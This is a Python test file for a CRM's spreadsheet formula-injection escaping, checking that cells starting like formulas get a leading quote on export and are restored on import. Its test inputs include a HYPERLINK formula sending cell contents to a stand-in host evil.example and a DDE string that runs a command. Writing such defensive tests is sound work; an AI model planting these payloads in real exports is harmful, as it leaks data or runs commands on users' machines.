"""Text cells a spreadsheet would run as formulas: quoted on export, unquoted on import, exactly."""
from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from crossborder_crm.buyers.formula_escape import escape, restore


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
                                  "@SUM(1+1)", "-1", "\t=1+1", "\r=1+1", "'=1+1", "''+1"])
def test_text_starting_like_a_formula_gets_one_leading_quote(text):
    assert escape(text) == "'" + text


@pytest.mark.parametrize("text", ["Lucía", "O'Brien", "'tis", "'", "", "1+1", " =1+1", "佐藤"])
def test_other_text_is_written_as_it_is_and_read_as_it_is(text):
    assert escape(text) == text and restore(text) == text


@given(st.text(alphabet=st.sampled_from("'=+-@\t\rab1 "), max_size=8) | st.text(max_size=20))
def test_restore_undoes_escape_for_any_text(text):
    assert restore(escape(text)) == text
